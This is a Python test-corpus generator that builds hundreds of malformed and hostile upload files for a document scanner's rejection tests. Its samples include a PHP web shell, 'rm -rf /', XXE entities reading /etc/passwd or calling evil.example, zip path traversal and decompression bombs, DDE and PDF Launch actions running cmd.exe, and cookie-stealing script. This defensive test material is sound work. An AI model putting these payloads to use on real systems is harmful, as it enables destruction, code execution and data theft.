"""Three hundred bad files and more, made by families from a seed: each must be refused, or kept where nobody opens it.

No live malware: the harmless test signature alone. Not here: the judgement (`tests/apps/documents/test_bad_files.py`).
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.corpus.further import further_bad
from tests.corpus.pieces import (
    PLAIN,
    RELS,
    Specimen,
    compound,
    docx,
    invoice,
    object_stream,
    ofd,
    pdf,
    picture,
    png_of,
    pptx,
    sealed_pdf,
    signed,
    xlsx,
    zipped,
)
from yunti.apps.documents.scanning import EICAR

SEED = 20260401


def all_bad() -> list[Specimen]:
    dice = random.Random(SEED)
    families = (
        sizes,
        wrong_types,
        disguised,
        names,
        document_types,
        slips,
        archives,
        office,
        old_office,
        ofds,
        active_pdfs,
        heavy_pdfs,
        pictures,
        truncated,
        signatures,
        lambda _dice: further_bad(),
    )
    return [specimen for family in families for specimen in family(dice)]


def sizes(dice: random.Random) -> Iterator[Specimen]:
    for kind in ("pdf", "png", "docx", "xml", "txt"):
        yield Specimen(f"0 byte {kind}", f"空.{kind}", b"")
        yield Specimen(f"blank {kind}", f"空白.{kind}", b" \r\n\t" * 3)
    for kind in ("pdf", "jpg", "docx", "doc", "zip"):
        yield Specimen(f"1 byte {kind}", f"一字节.{kind}", b"%")


def wrong_types(dice: random.Random) -> Iterator[Specimen]:
    """Every ending with every other content."""
    for said in PLAIN:
        for held, content in PLAIN.items():
            if held != said:
                yield Specimen(f"{held} called {said}", f"材料.{said}", content)


FOREIGN: dict[str, bytes] = {
    "exe": b"MZ\x90\x00" + bytes(200),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(100),
    "script": b"#!/bin/sh\nrm -rf /\n",
    "html": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg xml": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    "php": b"<?php system($_GET['a']); ?>",
    "gif": b"GIF89a=1;alert(1)//" + bytes(40),
    "heic": b"\x00\x00\x00\x18ftypheic" + bytes(100),
    "mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(100),
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(100),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(100),
    "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100),
    "class": b"\xca\xfe\xba\xbe" + bytes(60),
    "binary": bytes(range(256)) * 4,
}


def disguised(dice: random.Random) -> Iterator[Specimen]:
    for what, content in FOREIGN.items():
        for kind in dice.sample(("pdf", "jpg", "docx", "xlsx", "txt", "zip", "ofd"), 3):
            yield Specimen(f"{what} called {kind}", f"合同.{kind}", content)


def names(dice: random.Random) -> Iterator[Specimen]:
    for name in (
        "合同",
        "合同.pdf.exe",
        "合同\u202efdp.exe",
        "合同\u202exslx.pdf",
        "\u2066发票\u2069.pdf",
        "发\u202d票.pdf",
        "合同.pdf\x00.exe",
        "合同.exe\x00",
        "合同.pdf.scr. ",
        "合同.html",
        "合同.svg",
        "合同.docm",
        "合同.js",
        "合同.pdf:stream.exe",
        ".pdf.lnk",
        "合同.hta",
    ):
        yield Specimen(f"name {name!r}", name, PLAIN["pdf"])


DOCTYPES = {
    "plain": '<!DOCTYPE x><x xmlns="a"/>',
    "external": '<!DOCTYPE x SYSTEM "http://evil.example/a.dtd"><x/>',
    "file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "parameter": '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/e">%e;]><x/>',
    "laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><x>&c;</x>',
    "quadratic": '<!DOCTYPE x [<!ENTITY a "' + "a" * 5000 + '">]><x>' + "&a;" * 500 + "</x>",
    "padded": "<!-- " + " " * 70_000 + ' --><!DOCTYPE x SYSTEM "a"><x/>',
    "sixteen bits": "",
}


def document_types(dice: random.Random) -> Iterator[Specimen]:
    for label, text in DOCTYPES.items():
        part: str | bytes = '<?xml version="1.0"?>' + text
        if not text:
            part = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "a"><x/>').encode("utf-16")
        for kind, members in (
            ("docx", docx(**{"word/document.xml": part})),
            ("docx", docx(**{"word/styles.xml": part})),
            ("docx", docx(**{"word/_rels/document.xml.rels": part})),
            ("xlsx", xlsx(**{"xl/sharedStrings.xml": part})),
            ("xlsx", xlsx(**{"[Content_Types].xml": part})),
            ("pptx", pptx(**{"ppt/slides/slide1.xml": part})),
            ("ofd", ofd(**{"OFD.xml": part})),
            ("ofd", ofd(**{"Doc_0/Pages/Page_0/Content.xml": part})),
        ):
            yield Specimen(f"{label} document type in {kind}", f"材料.{kind}", zipped(members))
        yield Specimen(
            f"{label} document type in xml", "发票.xml", part if isinstance(part, bytes) else part.encode()
        )


def slips(dice: random.Random) -> Iterator[Specimen]:
    for name in (
        "../../evil.txt",
        "/etc/cron.d/evil",
        "..\\..\\evil.txt",
        "C:\\evil.txt",
        "a/../../b",
        "con/a",
        "NUL.txt",
    ):
        for kind, members in (("zip", {"a.txt": "1"}), ("docx", docx()), ("ofd", ofd())):
            yield Specimen(f"{name} in {kind}", f"材料.{kind}", zipped({**members, name: "x"}))
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield Specimen("link in zip", "材料.zip", target.getvalue())
    hidden = zipped({"aXexe.txt": "1"}).replace(b"aXexe.txt", b"a\x00exe.txt")
    yield Specimen("NUL in a member's name", "材料.zip", hidden)


def archives(dice: random.Random) -> Iterator[Specimen]:
    for size in (5_000_000, 40_000_000):
        yield Specimen(f"{size} blank bytes packed", "材料.zip", zipped({"a": bytes(size)}))
        yield Specimen(
            f"{size} blank bytes in docx", "材料.docx", zipped(docx(**{"word/media/a.png": bytes(size)}))
        )
    nested = zipped({"a": "1"})
    for depth in range(2, 11):
        nested = zipped({"a.zip": nested})
        if depth >= 5:
            yield Specimen(f"packed {depth} times", "材料.zip", nested)
    yield Specimen("10,001 members", "材料.zip", zipped({f"{number}": b"" for number in range(10_001)}))
    yield Specimen("100,000 members", "材料.zip", _directory_of(100_000))
    yield Specimen("overlapping members", "材料.zip", overlapping(50))
    yield Specimen("overlapping members in docx", "材料.docx", overlapping(50, docx()))
    for label, change in LIES.items():
        yield Specimen(label, "材料.zip", change(zipped({"a.txt": "示例" * 300})))
        yield Specimen(f"{label}, docx", "材料.docx", change(zipped(docx())))
    yield Specimen("two archives in a row", "材料.zip", zipped({"a": "1"}) + zipped({"b": "2"}))
    yield Specimen("encrypted", "材料.zip", encrypted(zipped({"a": "1"})))
    yield Specimen("encrypted docx", "材料.docx", encrypted(zipped(docx())))
    for program in ("exe", "js", "lnk", "bat", "vbs", "docm", "jar", "hta"):
        yield Specimen(
            f"{program} packed", "材料.zip", zipped({"合同.pdf": PLAIN["pdf"], f"看我.{program}": "x"})
        )
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield Specimen(f"method {method}", "材料.zip", zipped({"a": "1" * 1000}, method=method))


def encrypted(data: bytes) -> bytes:
    """The flag of encryption set everywhere, which is what programs go by."""
    out = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(mark)
        while at >= 0:
            out[at + place] |= 1
            at = out.find(mark, at + 4)
    return bytes(out)


def overlapping(number: int, members: dict[str, str | bytes] | None = None) -> bytes:
    """Many entries of the directory that all mean the same packed bytes."""
    data = zipped({**(members or {}), "kern": bytes(range(256)) * 8})
    end = data.rfind(b"PK\x05\x06")
    start, entries = (
        struct.unpack("<L", data[end + 16 : end + 20])[0],
        struct.unpack("<H", data[end + 10 : end + 12])[0],
    )
    last = data.rfind(b"PK\x01\x02", 0, end)
    directory = data[start:end] + data[last:end] * number
    count = entries + number
    tail = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, count, count, len(directory), start, 0)
    return data[:start] + directory + tail


def _directory_of(number: int) -> bytes:
    local = b"PK\x03\x04" + struct.pack("<5H3L2H", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = b"PK\x01\x02" + struct.pack("<6H3L5H2L", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * number
    count = number & 0xFFFF
    return (
        local
        + directory
        + b"PK\x05\x06"
        + struct.pack("<4H2LH", 0, 0, count, count, len(directory), len(local), 0)
    )


def _in_directory(place: int, form: str, value: int) -> Callable[[bytes], bytes]:
    """A lie in the first entry of the directory."""

    def change(data: bytes) -> bytes:
        out = bytearray(data)
        at = out.find(b"PK\x01\x02")
        struct.pack_into(form, out, at + place, value)
        return bytes(out)

    return change


def _in_local_name(data: bytes) -> bytes:
    out = bytearray(data)
    out[30] ^= 0x01
    return bytes(out)


LIES: dict[str, Callable[[bytes], bytes]] = {
    "directory states a smaller size": _in_directory(24, "<L", 3),
    "directory states a larger size": _in_directory(24, "<L", 900_000),
    "directory states another checksum": _in_directory(16, "<L", 0x12345678),
    "directory states fewer packed bytes": _in_directory(20, "<L", 5),
    "directory states too many packed bytes": _in_directory(20, "<L", 0x00FFFFFF),
    "directory points elsewhere": _in_directory(42, "<L", 7),
    "member named differently in place": _in_local_name,
}


def _external(kind: str) -> str:
    tag = f'<Relationship Id="r1" Type="http://schemas.example/{kind}" Target="http://evil.example/a" TargetMode="External"/>'
    return RELS.format(tag)


def office(dice: random.Random) -> Iterator[Specimen]:
    for kind, make, folder in (("docx", docx, "word"), ("xlsx", xlsx, "xl"), ("pptx", pptx, "ppt")):
        yield Specimen(
            f"macros in {kind}", f"材料.{kind}", zipped(make(**{f"{folder}/vbaProject.bin": b"x"}))
        )
        yield Specimen(
            f"control in {kind}", f"材料.{kind}", zipped(make(**{f"{folder}/activeX/a.bin": b"x"}))
        )
        yield Specimen(
            f"packed object in {kind}",
            f"材料.{kind}",
            zipped(make(**{f"{folder}/embeddings/oleObject1.bin": b"x"})),
        )
        types = '<?xml version="1.0"?><Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        yield Specimen(
            f"{kind}m called {kind}", f"材料.{kind}", zipped(make(**{"[Content_Types].xml": types}))
        )
        for outside in ("attachedTemplate", "oleObject", "image", "frame"):
            part = {f"{folder}/_rels/a.xml.rels": _external(outside)}
            yield Specimen(f"outside {outside} in {kind}", f"材料.{kind}", zipped(make(**part)))
    for text in ("DDEAUTO c:\\\\windows\\\\cmd.exe", "DDE excel a b"):
        body = f"<w:p><w:r><w:instrText>{text}</w:instrText></w:r></w:p>"
        yield Specimen(f"{text[:7]} in docx", "材料.docx", zipped(docx(body)))
    halves = (
        "<w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r></w:p>"
    )
    yield Specimen("DDE in two pieces", "材料.docx", zipped(docx(halves)))
    link = '<?xml version="1.0"?><externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield Specimen("DDE in xlsx", "材料.xlsx", zipped(xlsx(**{"xl/externalLinks/externalLink1.xml": link})))
    yield Specimen("old macros in xlsx", "材料.xlsx", zipped(xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"})))
    rows = "".join(f'<row r="{number}" x="{number * 7919 % 99991}"/>' for number in range(1_048_577))
    yield Specimen("1,048,577 rows", "材料.xlsx", zipped(xlsx(rows)))
    doubled = io.BytesIO()
    with zipfile.ZipFile(doubled, "w") as archive:
        for name, content in [*docx().items(), ("word/Document.xml", "<a/>")]:
            archive.writestr(name, content)
    yield Specimen("two parts of one name", "材料.docx", doubled.getvalue())
    for place in ("word/document.xml", "_rels/.rels", "[Content_Types].xml"):
        yield Specimen(f"no XML in {place}", "材料.docx", zipped(docx(**{place: "x"})))


def old_office(dice: random.Random) -> Iterator[Specimen]:
    for kind, stream in (
        ("doc", "WordDocument"),
        ("xls", "Workbook"),
        ("ppt", "PowerPoint Document"),
        ("wps", "WordDocument"),
    ):
        for inside in ("_VBA_PROJECT", "Macros", "EncryptedPackage", "\x01Ole10Native"):
            yield Specimen(f"{inside!r} in {kind}", f"材料.{kind}", compound(stream, inside))
    yield Specimen("sealed docx", "材料.docx", compound("EncryptedPackage", "EncryptionInfo"))
    yield Specimen("installer called doc", "材料.doc", compound("!_StringData"))


def ofds(dice: random.Random) -> Iterator[Specimen]:
    for missing in ("Doc_0/Pages/Page_0/Content.xml", "Doc_0/Pages/Page_1/Content.xml"):
        parts = ofd(2)
        del parts[missing]
        yield Specimen(f"no {missing}", "发票.ofd", zipped(parts))
    yield Specimen("2,001 pages", "发票.ofd", zipped(ofd(2001)))
    yield Specimen("encrypted ofd", "发票.ofd", zipped(ofd(**{"Encryptions.xml": "<x/>"})))
    yield Specimen("sealed ofd", "发票.ofd", encrypted(zipped(ofd())))
    yield Specimen(
        "no root part", "发票.ofd", zipped({name: text for name, text in ofd().items() if name != "OFD.xml"})
    )
    sound = signed(ofd(2))
    page = "Doc_0/Pages/Page_1/Content.xml"
    changed = {**sound, page: sound[page].replace("示例", "改过")}
    yield Specimen("changed after signing", "发票.ofd", zipped(changed))
    yield Specimen(
        "part gone after signing",
        "发票.ofd",
        zipped(
            {
                k: v
                for k, v in signed(ofd(named={"a": "b"}, **{"Doc_0/Res.xml": "<x/>"})).items()
                if k != "Doc_0/Res.xml"
            }
        ),
    )
    for method, algorithm in (("MD5", "md5"), ("SHA256", "sha256")):
        other = signed(ofd(), method=method, algorithm=algorithm)
        other["OFD.xml"] += " "
        yield Specimen(f"changed after signing with {method}", "发票.ofd", zipped(other))
    yield Specimen(
        "signature with a broken digest",
        "发票.ofd",
        zipped(
            {
                **sound,
                "Doc_0/Signs/Sign_0/Signature.xml": sound["Doc_0/Signs/Sign_0/Signature.xml"].replace(
                    "CheckValue>", "CheckValue>A", 1
                ),
            }
        ),
    )
    yield Specimen("no XML in ofd", "发票.ofd", zipped(ofd(**{"Doc_0/Document.xml": "\x00\x01"})))


ACTIONS = {
    "script": "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "launch": "/OpenAction<</S/Launch/F(cmd.exe)>>",
    "sending form": "/AcroForm<</Fields[]/CO[<</S/SubmitForm/F(http://evil.example)>>]>>",
    "data import": "/OpenAction<</S/ImportData/F(a.fdf)>>",
    "dynamic form": "/AcroForm<</Fields[]/XFA[(a)5 0 R]>>",
    "multimedia": "/Names<</RichMedia 5 0 R>>",
    "packed program": "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>]>>>>",
    "packed page": "/Names<</EmbeddedFiles<</Names[(a)<</UF(a.html)/EF<</F 5 0 R>>>>]>>>>",
    "jump into a packed file": "/OpenAction<</S/GoToE/T<<>>>>",
}
ESCAPES = ("JavaScript", "Launch", "SubmitForm", "ImportData", "XFA", "RichMedia", "EmbeddedFiles", "GoToE")


def active_pdfs(dice: random.Random) -> Iterator[Specimen]:
    for label, catalog in ACTIONS.items():
        yield Specimen(f"pdf with {label}", "合同.pdf", pdf(catalog=catalog, more=["<<>>"]))
        yield Specimen(f"pdf with packed {label}", "合同.pdf", pdf(more=[object_stream(f"<<{catalog}>>")]))
        escaped = catalog
        for name in ESCAPES:
            place = dice.randrange(len(name))
            written = f"{name[:place]}#{ord(name[place]):02X}{name[place + 1 :]}"
            escaped = escaped.replace(f"/{name}", f"/{written}")
        yield Specimen(f"pdf with escaped {label}", "合同.pdf", pdf(catalog=escaped, more=["<<>>"]))
    yield Specimen("pdf that is html too", "合同.pdf", b"<html><script>1</script>" + PLAIN["pdf"])
    yield Specimen("pdf that is a zip too", "合同.pdf", PLAIN["pdf"] + zipped({"a": "1"}))
    yield Specimen("pdf behind a program", "合同.pdf", b"MZ" + bytes(100) + PLAIN["pdf"])


def heavy_pdfs(dice: random.Random) -> Iterator[Specimen]:
    for password in (b"secret", b"123456"):
        yield Specimen(f"pdf with password {password.decode()}", "合同.pdf", sealed_pdf(password))
    yield Specimen("pdf of 2,001 pages", "合同.pdf", pdf(2001))
    blank = zlib.compress(bytes(60_000_000), 9)
    bomb = f"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(blank)}>>\nstream\n{blank.decode('latin-1')}\nendstream"
    yield Specimen("object stream without end", "合同.pdf", pdf(more=[bomb]))
    half = zlib.compress(bytes(30_000_000), 9).decode("latin-1")
    many = f"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(half)}>>\nstream\n{half}\nendstream"
    yield Specimen("five large object streams", "合同.pdf", pdf(more=[many] * 5))
    yield Specimen(
        "linearised and cut off", "合同.pdf", b"%PDF-1.4\n%%EOF\n" + PLAIN["pdf"][9:400] + b"x" * 5000
    )


def pictures(dice: random.Random) -> Iterator[Specimen]:
    for width, height in ((50_000, 50_000), (10_001, 10_000), (2_000_000_000, 1), (65_000, 65_000)):
        yield Specimen(f"{width} × {height} png", "照片.png", png_of(width, height))
    flood = bytearray(PLAIN["jpg"])
    at = flood.find(b"\xff\xc0")
    flood[at + 5 : at + 9] = struct.pack(">HH", 60_000, 60_000)
    yield Specimen("60,000 × 60,000 jpg", "照片.jpg", bytes(flood))
    wide = bytearray(PLAIN["bmp"])
    struct.pack_into("<ll", wide, 18, 60_000, 60_000)
    yield Specimen("60,000 × 60,000 bmp", "照片.bmp", bytes(wide))
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("white", "black", "red")]
    for kind in ("PNG", "WEBP"):
        target = io.BytesIO()
        frames[0].save(target, kind, save_all=True, append_images=frames[1:], duration=100, loop=0)
        yield Specimen(f"moving {kind.lower()}", f"照片.{kind.lower()}", target.getvalue())
    for kind in ("png", "jpg", "bmp", "webp"):
        yield Specimen(f"{kind} with zip behind", f"照片.{kind}", PLAIN[kind] + zipped({"a": "1"}))
        yield Specimen(f"{kind} with pdf behind", f"照片.{kind}", PLAIN[kind] + PLAIN["pdf"])
        yield Specimen(
            f"{kind} with html behind", f"照片.{kind}", PLAIN[kind] + b"\n<html><script>1</script></html>"
        )
    comment = b"\xff\xfe\x00\x22<script>alert(document.cookie)</script>"[:36]
    yield Specimen("script in a jpg's comment", "照片.jpg", PLAIN["jpg"][:2] + comment + PLAIN["jpg"][2:])
    yield Specimen("script in a png's text", "照片.png", picture("PNG", pnginfo=_text("<script>1</script>")))
    yield Specimen("tif of 501 pages", "扫描.tif", _pages(501))


def _text(text: str) -> object:
    info = PngInfo()
    info.add_text("Comment", text)
    return info


def _pages(number: int) -> bytes:
    target = io.BytesIO()
    page = Image.new("1", (8, 8))
    page.save(target, "TIFF", save_all=True, append_images=[page] * (number - 1))
    return target.getvalue()


def truncated(dice: random.Random) -> Iterator[Specimen]:
    large = {**PLAIN, "jpg": picture("JPEG", size=(400, 300)), "tif": picture("TIFF", size=(400, 300))}
    for kind in (
        "pdf",
        "ofd",
        "png",
        "jpg",
        "tif",
        "bmp",
        "webp",
        "docx",
        "xlsx",
        "pptx",
        "doc",
        "xls",
        "ppt",
        "xml",
        "zip",
    ):
        content = large[kind]
        for part in (0.2, 0.5, 0.8):
            yield Specimen(f"{kind} cut at {part:.0%}", f"材料.{kind}", content[: int(len(content) * part)])
    half = picture("PNG", size=(300, 300))
    broken = bytearray(half)
    broken[len(half) // 2 : len(half) // 2 + 200] = bytes(200)
    yield Specimen("png broken inside", "照片.png", bytes(broken))
    yield Specimen("invoice without its end", "发票.xml", invoice()[:-20])


def signatures(dice: random.Random) -> Iterator[Specimen]:
    """The harmless signature by which scanners are tested, where scanners must look."""
    yield Specimen("test signature", "说明.txt", EICAR)
    yield Specimen("test signature behind 30 MB", "说明.txt", b" " * 30_000_000 + b"a" + EICAR)
    yield Specimen("test signature packed", "材料.zip", zipped({"a.txt": EICAR}))
    yield Specimen("test signature packed twice", "材料.zip", zipped({"a.zip": zipped({"a.txt": EICAR})}))
    yield Specimen("test signature in docx", "说明.docx", zipped(docx(**{"word/a.txt": EICAR})))
    yield Specimen("test signature in pdf", "合同.pdf", pdf(content=EICAR))
    yield Specimen("test signature, sealed", "材料.zip", encrypted(zipped({"a.txt": EICAR})))
